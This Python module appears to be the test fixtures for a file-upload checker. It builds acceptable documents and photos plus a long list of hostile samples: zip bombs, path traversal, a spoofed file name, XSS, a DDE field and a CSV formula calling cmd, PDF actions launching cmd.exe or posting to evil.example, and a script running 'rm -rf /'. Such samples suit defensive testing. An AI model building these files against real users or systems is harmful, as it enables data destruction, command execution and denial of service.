"""Files as people hand them in, good and bad, each made here: ``GOOD`` and ``BAD`` by name.

A value is a function that returns the bytes; the name it is handed in under is the key, or stands
in front of a colon: ``"a.pdf: with a script"``.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from datetime import datetime

import openpyxl
import pikepdf
from PIL import Image

from assessment.evidence_files.kinds import MEDIA_TYPES

Made = Callable[[], bytes]
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAINS = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def zipped(
    entries: Mapping[str, bytes | str], *, stored: tuple[str, ...] = (), comment: bytes = b""
) -> bytes:
    """Return a ZIP with these entries in this order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=kind)
        archive.comment = comment
    return buffer.getvalue()


def ooxml(
    kind: str = "docx",
    *,
    more: Mapping[str, bytes | str] | None = None,
    relations: str = "",
    types: str = "",
    main: str = "<document/>",
    content_type: str = "",
) -> bytes:
    """Return a small Word, Excel or PowerPoint file, with what a test wants in it."""
    part, content = _MAINS[kind]
    declared = content_type or f"application/vnd.openxmlformats-officedocument.{content}"
    folder, name = part.split("/")
    entries: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType="application/'
            f'vnd.openxmlformats-package.relationships+xml"/><Override PartName="/{part}" '
            f'ContentType="{declared}"/>{types}</Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{_RELS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            f'Target="{part}"/></Relationships>'
        ),
        part: main,
        f"{folder}/_rels/{name}.rels": f'<Relationships xmlns="{_RELS}">{relations}</Relationships>',
    }
    return zipped(entries | dict(more or {}))


def relation(kind: str, target: str, *, outside: bool = True) -> str:
    """Return one relation of an office file."""
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r9" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def odf(
    kind: str = "odt", *, more: Mapping[str, bytes | str] | None = None, content: str = "<office/>"
) -> bytes:
    """Return a small OpenDocument file."""
    entries: dict[str, bytes | str] = {
        "mimetype": MEDIA_TYPES[kind],
        "content.xml": content,
        "META-INF/manifest.xml": "<manifest/>",
    }
    return zipped(entries | dict(more or {}), stored=("mimetype",))


def spreadsheet() -> bytes:
    """Return a spreadsheet as a well-known library writes it."""
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Forum", 12])
    book.save(buffer)
    return buffer.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    """Return a PDF of one page, changed before it is saved."""
    made, buffer = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    if change is not None:
        change(made)
    made.save(buffer, deterministic_id="encryption" not in saving, **saving)  # type: ignore[arg-type]
    return buffer.getvalue()


def _action(kind: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        told = {f"/{name}": value for name, value in entries.items()}
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary({"/S": pikepdf.Name(f"/{kind}"), **told})
        )

    return change


def _hidden_script(made: pikepdf.Pdf) -> None:
    """Put a script where only somebody who looks at every object finds it."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["budget.exe"] = b"MZ\x90"


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array())


def _link(made: pikepdf.Pdf) -> None:
    """Put a link to click, which is fine."""
    to = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://forum.example"))
    made.pages[0].obj.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([0, 0, 9, 9]),
                A=to,
            )
        ]
    )


POSITION = (51.0, 28.0, 40.5)
MAKER = "Telephone Works"


def photo(
    kind: str = "JPEG", size: tuple[int, int] = (60, 40), *, turned: bool = True, mode: str = "RGB"
) -> bytes:
    """Return a photo that says where, when, with what and by whom it was taken."""
    image = Image.new(mode, size, 90)
    image.paste(200, (0, 0, size[0] // 2, size[1]))  # the left half is lighter
    exif, buffer = Image.Exif(), io.BytesIO()
    exif[0x010F] = MAKER
    exif[0x0112] = 6 if turned else 1  # to be turned clockwise
    exif.get_ifd(0x8769)[0x9003] = "2026:03:14 09:26:53"
    exif.get_ifd(0x8825).update({1: "N", 2: POSITION, 3: "W", 4: (3.0, 11.0, 2.5)})
    comment = {"comment": f"by {MAKER}"} if kind == "JPEG" else {}
    image.save(buffer, kind, exif=exif, **comment)
    return buffer.getvalue()


def enormous_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a PNG of 900 million points and about 110 KB."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + check

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # one bit a point
    packer = zlib.compressobj(9)
    row = b"\x00" * (width // 8 + 1)
    packed = b"".join(packer.compress(row * 100) for _ in range(height // 100)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def moving(kind: str) -> bytes:
    """Return a picture of two frames."""
    frames, buffer = [Image.new("RGB", (8, 8), value) for value in ("red", "blue")], io.BytesIO()
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def bomb(kind: str = "docx") -> bytes:
    """Return an office file whose one entry unpacks to 600 MB."""
    part = _MAINS[kind][0]
    buffer = io.BytesIO(ooxml(kind))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open(f"{part.split('/')[0]}/media/noise.xml", "w") as entry,
    ):
        for _ in range(600):
            entry.write(b"\x20" * 1024 * 1024)
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """Return an office file whose list says that the large entry has ten bytes."""
    whole = zipped({"a": b" " * 20_000_000})
    size = struct.pack("<I", 20_000_000)
    made = bytearray(ooxml(more={"word/media/a.xml": b" " * 20_000_000}))
    assert whole.count(size) >= 1
    return bytes(made.replace(size, struct.pack("<I", 10)))


def encrypted_entry() -> bytes:
    """Return an office file one of whose entries says that it is encrypted."""
    made = bytearray(ooxml())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.index(mark)
        made[at + offset] |= 1
    return bytes(made)


def many_entries() -> bytes:
    """Return an office file of more entries than anybody needs."""
    return ooxml(more={f"word/{number}.xml": b"" for number in range(5_001)})


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
_VBA = {"word/vbaProject.bin": b"\x01"}
_DDE = (
    '<w:document xmlns:w="w"><w:r><w:instrText>DDE</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\x.exe</w:instrText></w:r></w:document>'
)
_SCRIPT_IN_ODF = '<office><script:event-listener script:language="ooo:script"/></office>'
_PICTURE_FROM_AFAR = '<office><draw:image xlink:href="https://spy.example/x.png"/></office>'

GOOD: dict[str, Made] = {
    "minutes.pdf": pdf,
    "compressed.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "with a link.pdf": lambda: pdf(_link),
    "Cofnodion Ŵyl 14.03.docx": ooxml,
    "sheet.xlsx": lambda: ooxml("xlsx"),
    "by a library.xlsx": spreadsheet,
    "slides.pptx": lambda: ooxml("pptx"),
    "slides with the figures of a chart.pptx": lambda: ooxml(
        "pptx", more={"ppt/embeddings/sheet1.xlsx": spreadsheet()}
    ),
    "with a link.docx": lambda: ooxml(relations=relation("hyperlink", "https://forum.example")),
    "links to another sheet.xlsx": lambda: ooxml(
        "xlsx", relations=relation("externalLinkPath", "file:///other.xlsx")
    ),
    "letter.odt": odf,
    "table.ods": lambda: odf("ods"),
    "photo.jpg": photo,
    "PHOTO.JPEG": photo,
    "grey.jpg": lambda: photo(mode="L"),
    "photo.png": lambda: photo("PNG"),
    "see-through.png": lambda: photo("PNG", mode="RGBA"),
    "photo.webp": lambda: photo("WEBP"),
    "notes.txt": "Nodiadau’r fforwm: Ŵyl\r\n".encode,
    "notes with a mark.txt": lambda: b"\xef\xbb\xbfNotes",
    "from an older program.txt": lambda: "It cost £5 – “too much”".encode("cp1252"),
    "table.csv": lambda: b"name,count\nForum,3\n=1+1,-2\n",
    "minutes.docx.pdf": pdf,
}

BAD: dict[str, Made] = {
    "nothing.pdf": lambda: b"",
    "nothing.txt": lambda: b"",
    "page.html": lambda: b"<script>alert(1)</script>",
    "page.txt": lambda: b"<!doctype html><script>alert(1)</script>",
    "page with a mark.txt": lambda: b"\xef\xbb\xbf \n<html>",
    "drawing.svg": lambda: b"<svg onload='alert(1)'/>",
    "drawing.png": lambda: b"<svg onload='alert(1)'/>",
    "script.js": lambda: b"alert(1)",
    "script.txt": lambda: b"#!/bin/sh\nrm -rf /",
    "program.exe": lambda: b"MZ\x90\x00",
    "program.pdf": lambda: b"MZ\x90\x00" + bytes(500),
    "program.txt": lambda: b"MZ\x90\x00" + bytes(500),
    "minutes.pdf.exe": lambda: b"MZ\x90\x00",
    "minutes.exe.pdf": pdf,
    "minutes.html.pdf": pdf,
    "minutes.pdf                    .exe": lambda: b"MZ",
    "minutes\u202efdp.exe": lambda: b"MZ",
    "archive.zip": lambda: zipped({"a.txt": "a"}),
    "archive.docx": lambda: zipped({"a.txt": "a"}),
    "archive.7z": lambda: b"7z\xbc\xaf\x27\x1c",
    "macros.docm": ooxml,
    "macros.docx: named in the list": lambda: ooxml(
        content_type="application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "macros.docx: a project": lambda: ooxml(more=_VBA),
    "macros.xlsx: an old sheet": lambda: ooxml("xlsx", more={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "macros.docx: by relation": lambda: ooxml(relations=relation("vbaProject", "v", outside=False)),
    "control.docx": lambda: ooxml(more={"word/activeX/activeX1.xml": "<x/>"}),
    "object.docx": lambda: ooxml(more={"word/embeddings/oleObject1.bin": OLD_OFFICE}),
    "program inside.docx": lambda: ooxml(more={"word/media/image1.png": b"MZ\x90"}),
    "page inside.docx": lambda: ooxml(more={"word/afchunk.html": b"<html>"}),
    "archive inside.docx": lambda: ooxml(more={"word/media/image1.png": zipped({"a": "a"})}),
    "macros inside.pptx": lambda: ooxml("pptx", more={"ppt/embeddings/a.docx": ooxml(more=_VBA)}),
    "nest.docx": lambda: ooxml(
        more={"word/embeddings/a.docx": ooxml(more={"word/embeddings/b.docx": ooxml()})}
    ),
    "template from afar.docx": lambda: ooxml(
        relations=relation("attachedTemplate", "https://evil.example/t.dotm")
    ),
    "picture from afar.docx": lambda: ooxml(relations=relation("image", "https://spy.example/x")),
    "frame from afar.docx": lambda: ooxml(relations=relation("frame", "\\\\host\\share\\x")),
    "object from afar.docx": lambda: ooxml(relations=relation("oleObject", "https://e.example")),
    "field.docx": lambda: ooxml(main=_DDE),
    "calls.xlsx": lambda: ooxml(
        "xlsx", more={"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}
    ),
    "entities.docx": lambda: ooxml(main='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "entities in the list.docx": lambda: ooxml(
        more={"word/_rels/x.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}
    ),
    "bomb.docx": bomb,
    "bomb.xlsx": lambda: bomb("xlsx"),
    "lying bomb.docx": lying_bomb,
    "bomb inside.pptx": lambda: ooxml("pptx", more={"ppt/embeddings/a.docx": bomb()}),
    "many entries.docx": many_entries,
    "way out.docx": lambda: ooxml(more={"../../evil.xml": "<a/>"}),
    "password.docx": lambda: OLD_OFFICE,
    "password.docx: one entry": encrypted_entry,
    "cut off.docx": lambda: ooxml()[:-40],
    "really a sheet.docx": lambda: ooxml("xlsx"),
    "really a letter.ods": odf,
    "really a photo.pdf": photo,
    "really a pdf.jpg": pdf,
    "really a png.jpg": lambda: photo("PNG"),
    "two at once.docx: before": lambda: b"<script>1</script>" + ooxml(),
    "two at once.docx: after": lambda: ooxml() + b"%PDF-1.7",
    "two at once.docx: beside": lambda: ooxml() + ooxml("xlsx"),
    "old.doc": lambda: OLD_OFFICE,
    "old.xls": lambda: OLD_OFFICE,
    "script.odt": lambda: odf(content=_SCRIPT_IN_ODF),
    "basic.odt": lambda: odf(more={"Basic/Standard/Module1.xml": "<a/>"}),
    "from afar.odt": lambda: odf(content=_PICTURE_FROM_AFAR),
    "password.odt": lambda: odf(
        more={"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}
    ),
    "object.odt": lambda: odf(more={"Object 1": OLD_OFFICE}),
    "password.pdf": lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
    "no printing.pdf": lambda: pdf(encryption=pikepdf.Encryption(user="", owner="b")),
    "script.pdf": lambda: pdf(_action("JavaScript", JS=pikepdf.String("app.alert(1)"))),
    "hidden script.pdf": lambda: pdf(
        _hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "launch.pdf": lambda: pdf(_action("Launch", F=pikepdf.String("cmd.exe"))),
    "send.pdf": lambda: pdf(_action("SubmitForm", F=pikepdf.String("https://evil.example"))),
    "opens the web.pdf": lambda: pdf(_action("URI", URI=pikepdf.String("https://evil.example"))),
    "files inside.pdf": lambda: pdf(_attach),
    "form.pdf": lambda: pdf(_xfa),
    "damaged.pdf": lambda: b"%PDF-1.7\n" + bytes(2_000),
    "not at the start.pdf": lambda: b"hello\n" + pdf(),
    "two at once.pdf": lambda: pdf() + zipped({"a.exe": b"MZ"}),
    "enormous.png": enormous_png,
    "moving.webp": lambda: moving("WEBP"),
    "moving.png": lambda: moving("PNG"),
    "cut off.jpg": lambda: photo(size=(600, 400))[:-400],
    "phone.heic": lambda: b"\x00\x00\x00\x18ftypheic",
    "phone.jpg": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(500),
    "animation.gif": lambda: b"GIF89a",
    "film.mp4": lambda: b"\x00\x00\x00\x18ftypmp42",
    "mail.msg": lambda: OLD_OFFICE,
    "no characters.txt": lambda: b"a\x81b",
    "zeros.txt": lambda: b"a\x00b",
    "wide.txt": lambda: "notes".encode("utf-16"),
    "calls.csv": lambda: b"name,count\n=cmd|'/c calc'!A1,3\n",
    "no ending": lambda: b"hello",
    ".pdf": pdf,
    "odd.qqq": lambda: b"hello",
}


def handed_in_as(key: str) -> str:
    """Return the name under which one of the files is handed in."""
    return key.split(":", maxsplit=1)[0]


TAKEN = datetime(2026, 3, 14, 9, 26, 53).date()  # noqa: DTZ001  what the photos say, in no zone
